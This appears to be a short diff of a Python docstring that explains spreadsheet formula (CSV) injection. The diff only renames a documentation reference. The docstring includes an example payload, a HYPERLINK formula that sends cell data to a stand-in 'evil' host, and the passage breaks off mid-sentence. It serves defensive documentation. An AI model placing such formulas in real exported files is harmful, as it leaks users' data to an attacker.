@@ -1,4 +1,4 @@
-"""Spreadsheet formula injection (OWASP "CSV Injection"; SECURITY.md item 13).
+"""Spreadsheet formula injection (OWASP "CSV Injection"; docs/security.md case 13).
 
 A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be run as a formula
 by Excel or LibreOffice when a CSV is opened, e.g. a description ``=HYPERLINK("http://evil/?"&A1)``. Every
